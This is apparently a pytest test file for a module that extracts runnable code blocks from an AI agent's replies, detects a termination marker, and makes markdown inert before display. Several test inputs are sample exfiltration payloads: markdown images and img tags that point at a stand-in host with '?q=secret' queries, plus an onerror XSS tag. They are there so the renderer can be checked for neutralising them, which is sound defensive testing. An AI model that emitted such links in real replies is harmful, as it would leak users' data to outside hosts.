from __future__ import annotations

import pytest

from agent_magic.codeblocks import (
    CodeBlock,
    extract_code_blocks,
    inert_markdown,
    is_termination,
    prints_marker,
    proposed_blocks,
)


@pytest.mark.parametrize(
    ("tag", "language"),
    [
        ("python", "python"),
        ("py", "python"),
        ("Python3", "python"),
        ("ipython", "python"),
        ("", "python"),
        ("sh", "sh"),
        ("BASH", "sh"),
        ("shell", "sh"),
        ("python   ", "python"),
        ("{python}", "python"),
        ("r", "r"),
    ],
)
def test_language_tags(tag: str, language: str) -> None:
    assert extract_code_blocks(f"Here:\n```{tag}\nx = 1\n```\n") == [CodeBlock(language, "x = 1")]


def test_tilde_fences_crlf_and_order() -> None:
    text = "Two steps:\r\n~~~python\r\na = 1\r\n~~~\r\nthen\r\n```sh\r\necho hi\r\n```\r\n"
    assert extract_code_blocks(text) == [CodeBlock("python", "a = 1"), CodeBlock("sh", "echo hi")]


def test_longer_fence_contains_shorter_one() -> None:
    text = "````python\ns = '''\n```\n'''\n````"
    assert extract_code_blocks(text) == [CodeBlock("python", "s = '''\n```\n'''")]


def test_unclosed_block_and_empty_block() -> None:
    assert extract_code_blocks("```python\n```\n") == []
    assert extract_code_blocks("```python\nprint(1)\n") == [CodeBlock("python", "print(1)")]


def test_indented_fence_is_dedented() -> None:
    assert extract_code_blocks("  ```python\n  x = 2\n  ```") == [CodeBlock("python", "x = 2")]


def test_no_code() -> None:
    assert extract_code_blocks("The answer is 42. TERMINATE") == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Done. TERMINATE", True),
        ("Done.\n\nTERMINATE.\n", True),
        ("**TERMINATE**", True),
        ("Say TERMINATE when done, here is code", False),
        ("no", False),
    ],
)
def test_termination(text: str, expected: bool) -> None:
    assert is_termination(text) is expected


def test_inert_markdown_loads_nothing_by_itself() -> None:
    reply = (
        "See ![chart](https://evil.example/c.png?q=secret) and <img src=x onerror=alert(1)>.\n"
        "A reference image ![logo][1], a `a < b` span and ``![kept](in-code)``.\n"
        "```python\nif a < b:\n    print('![not an image](x)')\n```\n"
        "Done <b>now</b>."
    )
    shown = inert_markdown(reply)
    assert shown.count("![") == 2  # only the two inside code
    assert "[image: chart](https://evil.example/c.png?q=secret)" in shown
    assert "[image: logo][1]" in shown
    assert "&lt;img src=x" in shown and "&lt;b>now&lt;/b>" in shown
    # Code is shown as code: untouched.
    assert "`a < b`" in shown and "if a < b:\n    print('![not an image](x)')" in shown


def test_inert_markdown_while_a_fence_is_still_streaming() -> None:
    assert inert_markdown("Try:\n```python\nx = '<b>'") == "Try:\n```python\nx = '<b>'"
    assert inert_markdown("plain text stays") == "plain text stays"


@pytest.mark.parametrize(
    "reply",
    [
        "Use ` carefully.\n\n<img src=https://evil.example/?q=secret>\n\nand `x`",
        "a \\`<img src=https://evil.example>` b",  # an escaped backtick opens no span
        "![a [b] c](https://evil.example/?q=1)",
        "![a\nb](https://evil.example/?q=1)",
        "![x]\n\n[x]: https://evil.example/?q=1",
        "[![badge](https://evil.example/b.svg)](https://x)",
        "costs $5 and <img src=https://evil.example> $6",
    ],
)
def test_inert_markdown_is_not_fooled(reply: str) -> None:
    shown = inert_markdown(reply)
    assert "![" not in shown and "<img" not in shown


def test_inert_markdown_keeps_maths_readable() -> None:
    shown = inert_markdown("p-value $p < 0.05$, and $$a<b$$ or \\(x<y\\)")
    assert shown == "p-value $p \\lt  0.05$, and $$a\\lt b$$ or \\(x\\lt y\\)"


# What a reply proposes to run (issue 14, from Qwen2.5-Coder-0.5B's transcripts): data
# fences and untagged quotes of the last output are not steps.


def test_data_fences_propose_nothing() -> None:
    reply = '```python\nanswer = 5\n```\nIt prints:\n```output\n5\n```\n```json\n{"a": 1}\n```'
    assert proposed_blocks(reply) == [CodeBlock("python", "answer = 5")]


@pytest.mark.parametrize("quote", ["15", "[1, 4, 9, 16]", "'MCMXCIV'", "{'a': 1}", "-2.5"])
def test_an_untagged_literal_is_a_quote(quote: str) -> None:
    assert proposed_blocks(f"The result:\n```\n{quote}\n```") == []
    # Tagged as Python, it is code the model chose to run: it runs.
    assert proposed_blocks(f"```python\n{quote}\n```") == [CodeBlock("python", quote)]


def test_an_untagged_block_repeating_the_last_output_is_a_quote() -> None:
    shown = "It ran successfully.\nstdout:\nanswer: 5050\nOut: 15"
    assert proposed_blocks("```\nanswer: 5050\n```", shown) == []
    assert proposed_blocks("```\nanswer: 5050\nOut: 15\n```", shown) == []
    # Code that merely occurs inside a line of the output is not a quote of it.
    assert proposed_blocks("```\n5050\nprint(1)\n```", shown) == [
        CodeBlock("python", "5050\nprint(1)")
    ]
    assert proposed_blocks("```\nanswer = 5050\n```", shown) == [
        CodeBlock("python", "answer = 5050")
    ]


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ('answer = 1\nprint("TERMINATE")', True),
        ("print('TERMINATE')  ", True),
        ('print("TERMINATE")\nanswer = 1', False),
        ('print("Done")', False),
    ],
)
def test_code_that_prints_the_marker_signs_off(code: str, expected: bool) -> None:
    assert prints_marker([CodeBlock("python", code)], "TERMINATE") is expected
    assert not prints_marker([CodeBlock("sh", code)], "TERMINATE")


@pytest.mark.parametrize(
    "intro",
    [
        "**Output:**",
        "Output",
        "### Expected output:",
        "When you run this code, it will output:",
        "The output is:",
        "This would print the following:",
    ],
)
def test_an_untagged_block_introduced_as_output_is_a_quote(intro: str) -> None:
    reply = f"```python\nprint(m)\n```\n\n{intro}\n```\n[2. 3. 4.]\n```"
    assert proposed_blocks(reply) == [CodeBlock("python", "print(m)")]


@pytest.mark.parametrize(
    "intro",
    ["Here's the Python code to achieve this:", "Run this:", "The code that prints the result:"],
)
def test_an_untagged_block_introduced_as_code_is_code(intro: str) -> None:
    assert proposed_blocks(f"{intro}\n```\nx = f(2)\n```") == [CodeBlock("python", "x = f(2)")]
